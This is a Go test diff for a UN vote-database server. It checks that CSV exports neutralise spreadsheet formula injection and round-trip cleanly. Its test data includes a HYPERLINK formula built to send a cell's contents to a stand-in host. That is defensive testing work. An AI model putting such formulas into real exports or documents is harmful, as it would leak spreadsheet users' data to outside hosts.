@@ -1,14 +1,20 @@
 package main
 
 import (
+	"bytes"
 	"database/sql"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"io"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
 	"unsc/models"
+	"unsc/models/undl"
 )
 
 // dumpDB is every row of the tables an import writes.
@@ -108,5 +114,101 @@ func TestUNDLImportRefusesBadFiles(t *testing.T) {
 				t.Error("a refused import wrote")
 			}
 		})
+	}
+}
+
+// send makes a write with the server's key and returns the status and body.
+func send(t *testing.T, srv *server, method, path string, body any) (int, string) {
+	t.Helper()
+	b, _ := json.Marshal(body)
+	req, _ := http.NewRequest(method, "http://"+srv.addr+path, bytes.NewReader(b))
+	req.Header.Set("Authorization", "Bearer "+srv.token)
+	req.Header.Set("Content-Type", "application/json")
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	out, _ := io.ReadAll(res.Body)
+	return res.StatusCode, string(out)
+}
+
+// TestUNDLExportNeutralisesFormulas records drafts whose title, topic and
+// meeting start with what a spreadsheet runs as a formula, exports them
+// through the real router, and imports the file again: the cells are
+// written behind one quote, and read back as they were.
+func TestUNDLExportNeutralisesFormulas(t *testing.T) {
+	dir := t.TempDir()
+	srv := startServer(t, filepath.Join(dir, "a.db"))
+	votes := map[string]string{}
+	for _, code := range []string{"AZE", "COL", "DEU", "FRA", "GBR", "GTM", "IND", "MAR", "PAK", "PRT", "TGO", "USA", "ZAF"} {
+		votes[code] = "yes"
+	}
+	votes["CHN"], votes["RUS"] = "no", "no"
+	starts := []string{"=", "+", "-", "@", "\t", "\r"}
+	for i, s := range starts {
+		title, topic, meeting := s+`HYPERLINK("http://example.org/?leak="&A1, "click")`, s+"1+1", fmt.Sprintf("%sS/PV.%d", s, 6711+i)
+		code, body := send(t, srv, "POST", "/v1/drafts", map[string]any{"title": title, "topic": topic, "introduced_on": "2012-02-01"})
+		if code != 201 {
+			t.Fatalf("draft %q: %d %s", title, code, body)
+		}
+		var d struct{ ID int64 }
+		json.Unmarshal([]byte(body), &d)
+		code, body = send(t, srv, "PUT", fmt.Sprintf("/v1/drafts/%d/vote", d.ID), map[string]any{"voted_on": "2012-02-04", "meeting": meeting, "votes": votes})
+		if code != 201 && code != 200 {
+			t.Fatalf("vote on %q: %d %s", title, code, body)
+		}
+	}
+	first := get(t, srv.addr, "/v1/votes.csv")
+	srv.stop()
+
+	rows, err := csv.NewReader(strings.NewReader(first)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cells := map[string]bool{}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			cells[cell] = true
+		}
+	}
+	for i, s := range starts {
+		for _, want := range []string{"'" + s + `HYPERLINK("http://example.org/?leak="&A1, "click")`, "'" + s + "1+1", fmt.Sprintf("'%sS/PV.%d", s, 6711+i)} {
+			if !cells[want] {
+				t.Errorf("no cell %q in the export:\n%s", want, first)
+			}
+		}
+	}
+	for cell := range cells {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("cell %q starts a formula", cell)
+		}
+	}
+
+	read, err := undl.Parse(strings.NewReader(first))
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]bool{}
+	for _, v := range read {
+		got[v.Title+"|"+v.Topic+"|"+v.Meeting] = true
+	}
+	for i, s := range starts {
+		want := s + `HYPERLINK("http://example.org/?leak="&A1, "click")` + "|" + s + "1+1" + "|" + fmt.Sprintf("%sS/PV.%d", s, 6711+i)
+		if !got[want] {
+			t.Errorf("not read back: %q; read %v", want, got)
+		}
+	}
+
+	file := filepath.Join(dir, "votes.csv")
+	os.WriteFile(file, []byte(first), 0o644)
+	second := filepath.Join(dir, "b.db")
+	if code, out, stderr := runCmd(t, "import", "undl", file, "--db", second); code != 0 || !strings.Contains(out, "7 drafts, 7 votes") {
+		t.Fatalf("import: %d %q %q", code, out, stderr)
+	}
+	srv2 := startServer(t, second)
+	defer srv2.stop()
+	if again := get(t, srv2.addr, "/v1/votes.csv"); again != first {
+		t.Errorf("export after import differs:\n%q\nfirst:\n%q", again, first)
 	}
 }
